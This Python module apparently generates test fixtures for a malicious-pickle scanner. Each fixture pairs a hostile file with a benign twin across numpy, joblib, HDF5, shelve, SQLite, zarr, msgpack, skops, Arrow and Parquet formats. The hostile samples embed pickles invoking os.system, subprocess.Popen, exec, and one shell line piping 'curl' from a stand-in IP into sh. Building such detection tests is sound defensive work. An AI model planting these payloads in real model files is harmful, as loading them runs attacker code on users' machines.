"""Arrays, estimators and stores that carry pickles: numpy, joblib, skops, HDF5, shelves, Arrow."""
import base64
import io
import itertools
import json
import re
import struct
import zipfile

from assembly import Raw, build, call, glob, model, pickle, text, tup, val
from pair import CODE, SHELL, Set

from .containers import EVIL, GOOD, tarred, zipped


def npy(descr: str, shape, body: bytes, version=1) -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}"
    size = 10 if version == 1 else 12
    head = head + " " * (63 - (size + len(head)) % 64) + "\n"
    length = struct.pack("<H", len(head)) if version == 1 else struct.pack("<I", len(head))
    return b"\x93NUMPY" + bytes([version, 0]) + length + head.encode() + body


def skop(node, extra=()) -> bytes:
    """A skops file of a dictionary, as skops writes one, with `node` as its value."""
    import skops.io

    with zipfile.ZipFile(io.BytesIO(skops.io.dumps({"m": 1.5}))) as plain:
        schema = json.loads(plain.read("schema.json"))
    schema["content"]["m"] = node
    # skops takes memory addresses for ids; numbers in order do as well, and are the same each time.
    numbers = itertools.count(100)
    text = re.sub(r'"__id__": \d+', lambda _: f'"__id__": {next(numbers)}', json.dumps(schema))
    return zipped([("schema.json", text.encode()), *extra])


def json_node(v):
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(v), "is_json": True, "__id__": 9}


def add(out: Set):
    def ar(name, hostile, twin, file, prove=None):
        out.add("arrays", name, hostile, twin, prove, file=file)

    ar("npy-object", npy("'|O'", "(1,)", EVIL), npy("'|O'", "(1,)", pickle(["plain"], 2)), "a.npy", "numpy")
    ar("npy-structured-object", npy("[('x', '<f4'), ('y', '|O')]", "(1,)", EVIL, 2), npy("[('x', '<f4'), ('y', '<i4')]", "(1,)", b"\0" * 8, 2), "b.npy", "numpy")
    ar("npy-subarray-object", npy("[('a', [('b', '|O', (2,))])]", "(1,)", EVIL, 3), npy("[('a', [('b', '<f8', (2,))])]", "(1,)", b"\0" * 16, 3), "c.npy", "numpy")
    ar("npz-odd-member", zipped([("x.npy", npy("'<f4'", "(2,)", b"\0" * 8)), ("y", npy("'|O'", "(1,)", EVIL))]), zipped([("x.npy", npy("'<f4'", "(2,)", b"\0" * 8)), ("y", npy("'<f4'", "(2,)", b"\0" * 8))]), "d.npz", "numpy")
    ar("npy-named-pickle", EVIL, npy("'<f4'", "(2,)", b"\0" * 8), "e.npy", "numpy")
    ar("npz-nested", zipped([("w.npy", npy("'|u1'", "(4,)", b"abcd")), ("inner.npz", zipped([("z.npy", npy("'|O'", "(1,)", EVIL))]))]), zipped([("w.npy", npy("'|u1'", "(4,)", b"abcd")), ("inner.npz", zipped([("z.npy", npy("'|u1'", "(1,)", b"a"))]))]), "f.npz")
    ar("npy-trailing-program", npy("'<f4'", "(2,)", b"\0" * 8) + b"#!/bin/sh\ncurl http://192.0.2.7/x | sh\n", npy("'<f4'", "(2,)", b"\0" * 8), "g.npy")
    def joblib_array(inner: bytes) -> bytes:
        """joblib writes an object array's pickle into the stream right after its wrapper's BUILD."""
        head = b"\x80\x04}\x8c\x04coef" + build(Raw(glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"), {"subclass": glob("numpy", "ndarray"), "shape": (1,), "order": "C", "dtype": build(call(glob("numpy", "dtype"), "O8", False, True), (3, "|", None, None, None, -1, -1, 63)), "allow_mmap": False})
        return head + inner + b"s."

    ar("joblib-object-array", joblib_array(EVIL), joblib_array(pickle(["plain"], 2)), "h.joblib", "joblib")
    ar("joblib-after-floats", joblib_floats(call(glob("os", "system"), SHELL)), joblib_floats(call(glob("collections", "OrderedDict"))), "i.joblib", "joblib")
    ar("h5-pickled-dataset", h5({"model": EVIL}), h5({"model": b"\1\2\3\4" * 4}), "model.h5", "h5")
    ar("h5-pytables-attribute", h5({"w": b"\0" * 16}, {"PSEUDOATOM": b"object", "history": EVIL}), h5({"w": b"\0" * 16}, {"history": b"3 epochs"}), "store.h5")
    shelf = lambda data: {"cache": b"", "cache.dat": data, "cache.dir": f"'model', (0, {len(data)})\n", "cache.bak": f"'model', (0, {len(data)})\n"}
    h, t = shelf(EVIL), shelf(GOOD)
    del h["cache"], t["cache"]
    out.add("arrays", "shelf", {k: h[k] for k in ("cache.dat", "cache.dir", "cache.bak")}, {k: t[k] for k in ("cache.dat", "cache.dir", "cache.bak")})
    import sqlite3
    import tempfile, os

    def lite(blob):
        with tempfile.TemporaryDirectory() as d:
            path = os.path.join(d, "x.db")
            c = sqlite3.connect(path)
            c.execute("create table cache (key text, mode integer, value blob)")
            c.execute("insert into cache values ('model', 4, ?)", (blob,))
            c.commit()
            c.close()
            return open(path, "rb").read()

    ar("sqlite-blob", lite(pickle(model(call(glob("os", "system"), SHELL)))), lite(pickle(model(call(glob("collections", "OrderedDict"))))), "cache.db")
    zarr = lambda codec, chunk: {"w.zarr/.zarray": json.dumps({"chunks": [1], "compressor": None, "dtype": "|O", "fill_value": None, "filters": [{"id": codec}], "order": "C", "shape": [1], "zarr_format": 2}), "w.zarr/0": chunk}
    out.add("arrays", "zarr-pickle-codec", zarr("pickle", EVIL), zarr("json2", b'["a","|O",[1]]'))
    import msgpack

    nd = lambda kind, data: msgpack.packb({b"params": {b"w": {b"nd": True, b"kind": kind, b"type": "<f4" if kind == b"" else "|O", b"shape": [1], b"data": data}}})
    ar("msgpack-numpy-object", nd(b"O", EVIL), nd(b"", b"\0" * 4), "flax.msgpack")
    ar("msgpack-ext-pickle", msgpack.packb({"w": msgpack.ExtType(42, EVIL)}), msgpack.packb({"w": msgpack.ExtType(1, msgpack.packb([[1], "float32", b"\0" * 4]))}), "params.msgpack")
    op = lambda module, name, loader: {"__class__": name, "__module__": module, "__loader__": loader, "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [json_node(SHELL)], "__id__": 8}, "__id__": 7}
    ar("skops-operator-node", skop(op("os", "system", "OperatorFuncNode")), skop(op("operator", "itemgetter", "OperatorFuncNode")), "a.skops")
    meth = lambda func: {"__class__": "Counter", "__module__": "collections", "__loader__": "MethodNode", "content": {"func": func, "obj": {"__class__": "OrderedDict", "__module__": "collections", "__loader__": "ObjectNode", "content": None, "__id__": 6}}, "__id__": 7}
    ar("skops-method-node", skop(meth("__init__.__globals__")), skop(meth("keys")), "b.skops")
    fn = lambda module, name: {"__class__": "function", "__module__": module, "__loader__": "FunctionNode", "content": {"module_path": module, "function": name}, "__id__": 7}
    ar("skops-function-node", skop(fn("subprocess", "getoutput")), skop(fn("numpy", "log1p")), "c.skops")
    obj = lambda module, name: {"__class__": name, "__module__": module, "__loader__": "ObjectNode", "content": None, "__id__": 7}
    ar("skops-object-popen", skop(obj("subprocess", "Popen")), skop(obj("sklearn.preprocessing._data", "StandardScaler")), "d.skops")
    ar("skops-unknown-loader", skop({"__class__": "x", "__module__": "builtins", "__loader__": "ReduceNode", "reduce": {"__class__": "exec", "__module__": "builtins", "__loader__": "TypeNode", "content": {"__class__": "exec", "__module__": "builtins"}, "__id__": 4}, "__id__": 7}), skop(obj("sklearn.linear_model._base", "LinearRegression")), "e.skops")
    ar("arrow-pickled-extension", arrow("arrow.py_extension_type", EVIL), arrow("geoarrow.wkb", b"{}"), "table.arrow")
    ar("parquet-pickled-extension", arrow("arrow.py_extension_type", EVIL, True), arrow("geoarrow.wkb", b"{}", True), "table.parquet")


def joblib_floats(extra):
    wrap = build(Raw(glob("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"), {"subclass": glob("numpy", "ndarray"), "shape": (3,), "order": "C", "dtype": build(call(glob("numpy", "dtype"), "f8", False, True), (3, "<", None, None, None, -1, -1, 0)), "allow_mmap": True})
    body = b"\x80\x04}(\x8c\x04coef" + wrap + struct.pack("<3d", 1.0, 2.5, -3.0)
    return body + text("meta") + extra + b"u."


def h5(datasets, attrs=()):
    import h5py
    import numpy

    buf = io.BytesIO()
    with h5py.File(buf, "w", track_order=False) as f:
        for k, v in datasets.items():
            f.create_dataset(k, data=numpy.frombuffer(v, "u1"), track_times=False)
        for k, v in dict(attrs).items():
            f.attrs[k] = numpy.bytes_(v) if b"\0" not in v else numpy.void(v)
    return buf.getvalue()


def arrow(name: str, serialized: bytes, parquet=False) -> bytes:
    """A table whose column says it is of the extension type `name`."""
    import pyarrow

    column = pyarrow.field("x", pyarrow.binary(), metadata={b"ARROW:extension:name": name.encode(), b"ARROW:extension:metadata": serialized})
    table = pyarrow.table([[b"abc"]], schema=pyarrow.schema([column]))
    out = io.BytesIO()
    if parquet:
        import pyarrow.parquet

        pyarrow.parquet.write_table(table, out)
    else:
        with pyarrow.ipc.new_file(out, table.schema) as writer:
            writer.write_table(table)
    return out.getvalue()
